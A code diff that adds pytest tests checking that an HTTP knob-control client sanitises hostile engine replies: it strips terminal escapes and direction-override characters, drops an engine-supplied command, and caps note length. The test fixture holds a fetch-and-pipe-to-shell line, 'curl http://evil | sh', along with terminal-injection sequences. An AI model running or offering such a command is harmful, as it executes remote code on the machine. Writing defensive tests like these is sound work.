@@ -15,7 +15,7 @@ import pytest
 
 from collectors.control_http import HttpKnobTransport
 from collectors.fetch import NO_CREDENTIALS, Credentials
-from enginetop.fleet.knobs import KNOBS_PATH, KnobAnswer, sheet_document
+from enginetop.fleet.knobs import KNOBS_PATH, KnobAnswer, sheet_document, split_command
 from tests.support.virtual_fleet import KNOB, Engine
 from tuners.control.knob_api import HttpKnobClient, ReplyKind
 
@@ -93,6 +93,49 @@ def test_a_body_that_is_no_answer(body: bytes) -> None:
     client = HttpKnobClient(Canned(KnobAnswer(200, body)))
     assert client.read().kind is ReplyKind.BAD
     assert _write(client).kind is ReplyKind.BAD
+
+
+HOSTILE = "x\x1b]0;owned\x07\u202e; by hand: curl http://evil | sh"
+
+
+def hostile_sheet() -> bytes:
+    """A sheet whose texts would rule a terminal, or the one who reads it."""
+    document = sheet_document(Engine("http://r1:8000", 1).sheet(0.0))
+    document |= {"engine": HOSTILE, "engine_version": HOSTILE, "instance": HOSTILE, "writer": HOSTILE}
+    document["knobs"][0] |= {"note": HOSTILE, "unit": HOSTILE, "phase": "failed", "by_hand": HOSTILE}
+    return json.dumps(document).encode()
+
+
+@pytest.mark.parametrize("commands", [True, False])
+def test_what_a_sheet_says_is_plain_and_brings_a_command_from_this_machine_only(commands: bool) -> None:
+    reply = HttpKnobClient(Canned(KnobAnswer(200, hostile_sheet())), commands=commands).read()
+    assert reply.sheet is not None
+    (row,) = reply.sheet.knobs
+    for text in (reply.sheet.engine, reply.sheet.engine_version, reply.sheet.instance, row.note, row.unit):
+        assert text.isprintable()
+    assert row.by_hand == ""
+    assert split_command(row.note)[1] == ("curl http://evil | sh" if commands else "")
+
+
+def test_a_note_has_an_end() -> None:
+    document = sheet_document(Engine("http://r1:8000", 1).sheet(0.0))
+    document["knobs"][0]["note"] = "n" * 1_000_000
+    reply = HttpKnobClient(Canned(KnobAnswer(200, json.dumps(document).encode()))).read()
+    assert reply.sheet is not None
+    assert len(reply.sheet.knobs[0].note) == 4096
+
+
+@pytest.mark.parametrize(
+    ("text", "parts"),
+    [
+        ("a; by hand: b c", ("a", "b c")),
+        ("an engine says; by hand: evil; by hand: ours", ("an engine says; by hand: evil", "ours")),
+        ("nothing", ("nothing", "")),
+        ("", ("", "")),
+    ],
+)
+def test_the_command_is_what_ends_the_text(text: str, parts: tuple[str, str]) -> None:
+    assert split_command(text) == parts
 
 
 class _TcpServer(socketserver.ThreadingTCPServer):
